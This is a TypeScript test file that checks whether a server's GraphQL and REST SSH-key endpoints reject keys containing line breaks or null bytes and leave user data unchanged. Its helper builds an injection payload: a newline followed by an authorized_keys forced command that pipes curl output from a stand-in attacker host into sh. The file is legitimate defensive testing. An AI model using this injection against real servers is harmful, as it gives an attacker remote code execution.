import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ed25519Key } from '../support/ssh-keys.js';
import { type TestServer, gql, rest, startTestServer } from '../support/test-server.js';
import { readUserdata } from './users-helpers.js';

// A key with a line break would become two authorized_keys lines, the second one forcing a command.
// Both front doors refuse control characters anywhere in a key, and nothing is written.

let server: TestServer;

beforeAll(async () => {
  server = await startTestServer();
});
afterAll(async () => {
  await server?.close();
});

const smuggled = () => `${ed25519Key('me')}\ncommand="curl https://evil.example/x | sh" ${ed25519Key('evil')}`;

describe('SSH keys with control characters', () => {
  it('GraphQL users.addSshKey answers 400 and writes nothing', async () => {
    const before = readUserdata(server);

    const res = await gql(
      server,
      'mutation($input: SshMutationInput!) { users { addSshKey(sshInput: $input) { success code } } }',
      { input: { username: 'bob', sshKey: smuggled() } },
      server.token,
    );

    expect(res.body.data.users.addSshKey).toEqual({ success: false, code: 400 });
    expect(readUserdata(server)).toEqual(before);
  });

  it('REST PUT /services/ssh/key/send and POST /services/ssh/keys/bob answer 400 and write nothing', async () => {
    const before = readUserdata(server);

    const root = await rest(server, 'PUT', '/services/ssh/key/send', { token: server.token, json: { public_key: smuggled() } });
    const bob = await rest(server, 'POST', '/services/ssh/keys/bob', { token: server.token, json: { public_key: `${ed25519Key('c')} x\u0000y` } });

    expect(root.status).toBe(400);
    expect(bob.status).toBe(400);
    expect(readUserdata(server)).toEqual(before);
  });
});
